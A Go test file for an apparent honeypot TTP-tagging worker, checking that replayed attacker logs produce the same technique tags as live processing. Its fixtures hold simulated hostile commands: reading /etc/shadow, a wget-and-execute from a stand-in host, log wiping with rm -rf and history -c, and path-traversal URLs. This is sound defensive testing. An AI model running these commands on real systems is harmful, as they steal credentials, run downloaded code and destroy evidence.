package main

import (
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/zap"

	"ttp-worker/bus"
	"ttp-worker/internal/embedded/natstest"
	"ttp-worker/internal/testdb"
	"ttp-worker/logfile"
)

// query returns rows of a database, each on a line.
func query(t *testing.T, dsn, query string) (lines []string) {
	t.Helper()
	var db *sql.DB
	if path, ok := strings.CutPrefix(dsn, "sqlite://"); ok {
		var err error
		if db, err = sql.Open("sqlite", "file:"+path+"?_pragma=busy_timeout(10000)"); err != nil {
			t.Fatal(err)
		}
	} else {
		db = testdb.Open(t, dsn)
	}
	defer db.Close() // not only at the end: some tests ask often
	rows, err := db.QueryContext(t.Context(), query)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	names, err := rows.Columns()
	if err != nil {
		t.Fatal(err)
	}
	values := make([]sql.NullString, len(names))
	targets := make([]any, len(names))
	for i := range values {
		targets[i] = &values[i]
	}
	for rows.Next() {
		if err := rows.Scan(targets...); err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for i, v := range values {
			fmt.Fprintf(&b, "%s=%s,%t ", names[i], v.String, v.Valid)
		}
		lines = append(lines, b.String())
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return lines
}

// tags returns all of ttp_tag but when a tag was stored.
func tags(t *testing.T, dsn string) []string {
	t.Helper()
	return query(t, dsn, `SELECT uuid, source_kind, source_id, attacker_uuid, identity_uuid, session_id, decky_id, tactic, technique_id,
		sub_technique_id, confidence, rule_id, rule_version, evidence, attack_release, mitre_url FROM ttp_tag ORDER BY uuid`)
}

var databases = map[string]func(testing.TB) string{"mariadb": testdb.MySQL, "sqlite": testdb.SQLite}

// everySubject is an event on each subject, in the shapes that producers send.
const everySubject = `{"v":1,"topic":"attacker.command","ts":1777703000,"payload":{"attacker_ip":"198.51.100.7","command_text":"cat /etc/shadow","decky_id":"d","ts":"2026-05-02T06:22:48.5+02:00"}}
{"v":1,"topic":"attacker.command","ts":1777703000,"payload":{"attacker_ip":"198.51.100.7","cmd":"cat /etc/shadow","id":"own-id"}}
{"v":1,"topic":"attacker.command","ts":1777703000,"payload":{"attacker_ip":"198.51.100.7","text":"cat /etc/shadow","session_id":"bare"}}
{"v":1,"topic":"attacker.session.ended","ts":1777703000,"payload":{"session_id":"S","attacker_uuid":null,"attacker_ip":"198.51.100.8","decky_id":"node","service":"ssh","ended_at":"2026-05-02T06:23:30","commands":[{"id":"S#0","command_text":"wget http://192.0.2.1/x -O /tmp/x; chmod +x /tmp/x","ts":"2026-05-02T06:22:48","decky":"SRV"},"cat /etc/passwd"],"auth_attempts":[{"username":"root","password":"root","service":"ssh","result":"success","fail_count":9,"password_count":9,"prior_brute":true,"ts":"2026-05-02T06:22:40"}],"http_requests":[{"method":"GET","raw_url":"/../../etc/passwd"}],"op_text":"FLUSHALL"}}
{"v":1,"topic":"attacker.session.ended","ts":1777703000,"payload":{"session_id":null,"attacker_ip":"198.51.100.8","commands":["history -c"]}}
{"v":1,"topic":"attacker.observed","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","tftp_filename":"router-confg"}}
{"v":1,"topic":"attacker.auth","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","username":"root","service":"ssh","result":"failure","fail_count":"7","ts":1777703001.25}}
{"v":1,"topic":"attacker.http","ts":1777703000,"payload":{"src_ip":"198.51.100.9","method":"GET","raw_url":"/?x=../../../../etc/passwd","decky_name":"web","timestamp":"2026-05-02 06:22:48"}}
{"v":1,"topic":"attacker.intel.enriched","ts":1777703000,"payload":{"attacker_uuid":"a1a1a1a1-0000-4000-8000-000000000001","feodo_listed":true,"feodo_malware_family":"Emotet","threatfox_threat_types":["botnet_cc"],"threatfox_listed":true}}
{"v":1,"topic":"attacker.fingerprinted","type":"ipv6_leak","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","addr":"fe80::1","iid_kind":"eui64","mac_oui":"aa:bb:cc","vector":"active_echo","on_iface":"eth0"}}
{"v":1,"topic":"attacker.fingerprinted","type":"jarm","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","port":443,"jarm_hash":"07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"}}
{"v":1,"topic":"attacker.fingerprinted","type":"jarm","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","port":8443,"jarm_hash":"07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"}}
{"v":1,"topic":"attacker.fingerprinted","type":"hassh","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","port":22,"hassh_server":"b12d2871a1189eff20364cf5333619ee","ssh_banner":"SSH-2.0-x","matched_framework":"metasploit"}}
{"v":1,"topic":"attacker.fingerprinted","type":"http_fingerprint","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","ja4h":"ge11nn020000_9ed1ff1f7b03_000000000000_000000000000"}}
{"v":1,"topic":"attacker.fingerprinted","type":"tcpfp","ts":1777703000,"payload":{"attacker_ip":"198.51.100.9","port":22,"tcpfp_hash":"x","ttl":64,"mss":1460}}
{"v":1,"topic":"identity.formed","ts":1777703000,"payload":{"identity_uuid":"b1b1b1b1-0000-4000-8000-000000000001","shared_password_hash":"x","account_count":9}}
{"v":1,"topic":"identity.merged","ts":1777703000,"payload":{"winner_uuid":"b1b1b1b1-0000-4000-8000-000000000002","loser_uuid":"b1b1b1b1-0000-4000-8000-000000000001","shared_password_hash":"x","account_count":9}}
{"v":1,"topic":"credential.reuse.detected","ts":1777703000,"payload":{"id":"R1","secret_kind":"plaintext","target_count":3,"attacker_uuids":"[]","attacker_ips":"[\"198.51.100.7\",\"198.51.100.8\"]"}}
{"v":1,"topic":"email.received","ts":1777703000,"payload":{"source_id":"4ABC","attacker_ip":"198.51.100.10","decky_id":"mail","rcpt_count":30,"from_domain":"a.example","mail_from_domain":"b.example","rcpt_domains":["c.example"],"x_mailer":"GoPhish"}}
{"v":1,"topic":"canary.t1.triggered","ts":1777703000,"payload":{"token_id":"t1","trigger_id":"T1","decky_name":"d","src_ip":"198.51.100.11","user_agent":"curl","request_path":"/c/x","token_type":"aws_keys","_fp":{"nav":{"wd":true}}}}
{"v":1,"topic":"canary.t1.triggered","ts":1777703000,"payload":{"token_id":"t1","src_ip":"198.51.100.11","token_type":"aws_keys","user_agent":"x"}}
{"v":1,"topic":"canary.t1.placed","ts":1777703000,"payload":{"token_id":"t1"}}
{"v":1,"topic":"canary.t1.revoked","ts":1777703000,"payload":{"token_id":"t1"}}
`

// cowrieLog makes a log whose sessions overlap.
func cowrieLog(sessions int) string {
	commands := []string{"cat /etc/shadow", "uname -a", "wget http://192.0.2.1/x -O /tmp/x", "chmod +x /tmp/x; /tmp/x &", "history -c", "crontab -l", "rm -rf /var/log"}
	var b strings.Builder
	line := func(event string, session, second int, more string) {
		at := time.Date(2026, 5, 2, 0, 0, second, 0, time.UTC).Format("2006-01-02T15:04:05.000000Z")
		fmt.Fprintf(&b, `{"eventid":"cowrie.%s","session":"s%d","src_ip":"198.51.100.%d","sensor":"c%d","timestamp":%q%s}`+"\n", event, session, session%200, session%3, at, more)
	}
	for i := range sessions {
		line("session.connect", i, 10*i, `,"protocol":"ssh"`)
		line("login.success", i, 10*i+1, `,"username":"root","password":"root"`)
		for back := range 4 {
			if s := i - back; s >= 0 {
				line("command.input", s, 10*i+2+back, fmt.Sprintf(`,"input":%q`, commands[(3*s+back)%len(commands)]))
			}
		}
		if i >= 4 && i%9 != 0 {
			line("session.closed", i-4, 10*i+8, `,"duration":48`)
		}
	}
	return b.String()
}

func save(t *testing.T, text string) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "history.json")
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

func TestReplay_sameRowsAsLive(t *testing.T) {
	name := save(t, everySubject+cowrieLog(20)+
		`{"dst_port":22,"local_time":"2026-05-02 01:02:03.5","logdata":{"USERNAME":"root","PASSWORD":"root"},"logtype":4002,"node_id":"n1","src_host":"198.51.100.12"}`+"\n"+
		`{"dst_port":69,"local_time":"2026-05-02 01:02:03.5","logdata":{"FILENAME":"router-confg"},"logtype":10001,"node_id":"n1","src_host":"198.51.100.12"}`+"\n")
	for database, fresh := range databases {
		t.Run(database, func(t *testing.T) {
			liveDSN, replayDSN := fresh(t), fresh(t)
			h := startLive(t, liveDSN, zap.NewNop())
			reader, err := logfile.NewReader(logfile.Options{Files: []string{name}})
			if err != nil {
				t.Fatal(err)
			}
			defer reader.Close()
			var published uint64
			for rec, err := reader.Next(); err == nil; rec, err = reader.Next() {
				published++
				if err := h.bus.Publish(t.Context(), bus.Message{Subject: rec.Subject, Data: rec.Data(), ID: rec.ID()}); err != nil {
					t.Fatal(err)
				}
			}
			until(t, "all settled", func() bool {
				settled, ok, err := h.bus.Settled(t.Context(), "TELEMETRY")
				return ok && err == nil && settled == published
			})
			h.stop()
			if n := h.count("ttp.dlq."); n != 0 {
				t.Errorf("%d dead letters", n)
			}
			want := tags(t, liveDSN)
			if out, code := program(t, "replay", "--from", name, "--db", replayDSN); code != 0 {
				t.Fatalf("exit %d: %s", code, out)
			}
			if diff := cmp.Diff(want, tags(t, replayDSN)); diff != "" {
				t.Errorf("replay differs (-live +replay):\n%s", diff)
			}
			for _, kind := range []string{"command", "session", "auth_attempt", "http_request", "intel", "ipv6_leak", "credential", "email", "canary", "canary_fingerprint", "jarm", "hassh", "http_fingerprint", "identity"} {
				if !slices.ContainsFunc(want, func(row string) bool { return strings.Contains(row, "source_kind="+kind+",") }) {
					t.Errorf("no tag of kind %s to compare", kind)
				}
			}
			out, code := program(t, "replay", "--from", name, "--db", liveDSN)
			if code != 0 || !strings.Contains(out, " inserted=0 dry_run=false ") {
				t.Errorf("what was tagged live was added again: exit %d\n%s", code, out)
			}
		})
	}
}

// silence fails the test if anything is published on the server.
func silence(t *testing.T, server *natstest.Server) {
	t.Helper()
	b, err := bus.Connect(bus.Options{Connection: bus.Connection{URL: server.URL()}}, zap.NewNop())
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var heard []string
	stop, err := b.Watch(t.Context(), ">", func(subject string, _ []byte) {
		if strings.HasPrefix(subject, "$JS.") || strings.HasPrefix(subject, "_INBOX") || strings.HasPrefix(subject, "_ttp") {
			return // questions to the server, and its answers
		}
		mu.Lock()
		defer mu.Unlock()
		heard = append(heard, subject)
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		stop()
		b.Close()
		if len(heard) > 0 {
			t.Errorf("published: %q", heard)
		}
	})
}

func TestReplay_dryRun(t *testing.T) {
	name, dsn := save(t, everySubject+cowrieLog(30)), testdb.SQLite(t)
	count := func(args ...string) string {
		t.Helper()
		out, code := program(t, append([]string{"replay", "--from", name, "--db", dsn}, args...)...)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, out)
		}
		return strings.Replace(summary(out), "dry_run=true", "dry_run=false", 1)
	}
	dry := count("--dry-run")
	if _, err := os.Stat(strings.TrimPrefix(dsn, "sqlite://")); err == nil {
		t.Error("a dry run made the database")
	}
	if wet := count(); wet != dry {
		t.Errorf("the dry run promised %s, it became %s", dry, wet)
	}
	before := query(t, dsn, "SELECT * FROM ttp_replay")
	if again := count("--dry-run"); !strings.Contains(again, " inserted=0 ") {
		t.Errorf("a second dry run: %s", again)
	}
	if diff := cmp.Diff(before, query(t, dsn, "SELECT * FROM ttp_replay")); diff != "" {
		t.Errorf("a dry run wrote: %s", diff)
	}
}

func TestReplay_exitCodes(t *testing.T) {
	good := save(t, everySubject)
	bad := save(t, everySubject+"no JSON\n")
	dsn := testdb.SQLite(t)
	for name, c := range map[string]struct {
		args []string
		want int
	}{
		"nothing to replay":              {args: []string{"--db", dsn}, want: exitUsage},
		"two things to replay":           {args: []string{"--db", dsn, "--from", good, "--source", "all"}, want: exitUsage},
		"no database":                    {args: []string{"--from", good}, want: exitUsage},
		"unknown source":                 {args: []string{"--db", dsn, "--source", "x"}, want: exitUsage},
		"two beginnings":                 {args: []string{"--db", dsn, "--from", good, "--since-days", "1", "--since", "2026-01-01"}, want: exitUsage},
		"no time":                        {args: []string{"--db", dsn, "--from", good, "--since", "yesterday"}, want: exitUsage},
		"no days":                        {args: []string{"--db", dsn, "--from", good, "--since-days", "0"}, want: exitUsage},
		"an end before the beginning":    {args: []string{"--db", dsn, "--from", good, "--since", "2026-01-02", "--until", "2026-01-01"}, want: exitUsage},
		"unknown rule":                   {args: []string{"--db", dsn, "--from", good, "--rule", "R9999"}, want: exitUsage},
		"unknown format":                 {args: []string{"--db", dsn, "--from", good, "--format", "x"}, want: exitUsage},
		"bad rate":                       {args: []string{"--db", dsn, "--from", good, "--rate", "fast"}, want: exitUsage},
		"no such file":                   {args: []string{"--db", dsn, "--from", "/nonexistent"}, want: exitFailed},
		"a database without history":     {args: []string{"--db", dsn, "--source", "logs"}, want: exitFailed},
		"all, of such a database":        {args: []string{"--db", dsn, "--source", "all"}},
		"good input":                     {args: []string{"--db", dsn, "--from", good, "--rate", "100000/s"}},
		"several files":                  {args: []string{"--db", dsn, "--from", good, good}},
		"malformed input":                {args: []string{"--db", dsn, "--from", bad}, want: exitMalformed},
		"a format that the file has not": {args: []string{"--db", dsn, "--from", good, "--format", "cowrie"}, want: exitMalformed},
	} {
		t.Run(name, func(t *testing.T) {
			if out, code := program(t, append([]string{"replay"}, c.args...)...); code != c.want {
				t.Errorf("exit %d, want %d: %s", code, c.want, out)
			}
		})
	}
}

func TestReplay_onlySomeRules(t *testing.T) {
	name, dsn := save(t, cowrieLog(30)), testdb.SQLite(t)
	if out, code := program(t, "replay", "--from", name, "--db", dsn); code != 0 {
		t.Fatalf("exit %d: %s", code, out)
	}
	all := query(t, dsn, "SELECT DISTINCT rule_id FROM ttp_tag ORDER BY rule_id")
	if len(all) < 3 {
		t.Fatalf("rules %q", all)
	}
	rule := strings.TrimSuffix(strings.TrimPrefix(all[1], "rule_id="), ",true ")
	one := testdb.SQLite(t)
	if out, code := program(t, "replay", "--from", name, "--db", one, "--rule", rule); code != 0 {
		t.Fatalf("exit %d: %s", code, out)
	}
	if got := query(t, one, "SELECT DISTINCT rule_id FROM ttp_tag"); !slices.Equal(got, all[1:2]) {
		t.Errorf("rules %q, want %q", got, all[1:2])
	}
}

func TestReplay_window(t *testing.T) {
	file := save(t, cowrieLog(30)) // of the 2nd of May, the first five minutes
	for name, c := range map[string]struct {
		args []string
		some bool
	}{
		"everything":     {some: true},
		"since before":   {args: []string{"--since", "2026-05-01"}, some: true},
		"since after":    {args: []string{"--since", "2026-05-03"}},
		"until before":   {args: []string{"--until", "2026-05-02"}},
		"until after":    {args: []string{"--until", "2026-05-02T12:00:00Z"}, some: true},
		"the last days":  {args: []string{"--since-days", "1"}},
		"centuries back": {args: []string{"--since-days", "36500"}, some: true},
	} {
		t.Run(name, func(t *testing.T) {
			out, code := program(t, append([]string{"replay", "--dry-run", "--from", file}, c.args...)...)
			if some := !strings.Contains(out, " tags=0 "); code != 0 || some != c.some {
				t.Errorf("exit %d: %s", code, out)
			}
		})
	}
}
